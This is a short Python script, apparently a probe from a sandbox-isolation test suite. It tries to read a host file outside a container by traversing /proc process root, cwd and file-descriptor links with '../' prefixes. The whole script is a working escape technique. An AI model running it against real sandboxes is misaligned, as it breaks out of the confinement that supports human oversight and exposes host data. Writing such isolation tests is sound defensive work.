"""Reach files of the host by the folders of processes in /proc."""

from pathlib import Path

from _tools import read_any, target

outside = target()["outside"].lstrip("/")
links = [link for name in ("root", "cwd") for link in Path("/proc").glob(f"[0-9]*/{name}")]
links += list(Path("/proc/self/fd").iterdir())
ups = ["", "../../../../../../../../"]
read_any((link / up / outside for link in links for up in ups), "OUTSIDE")
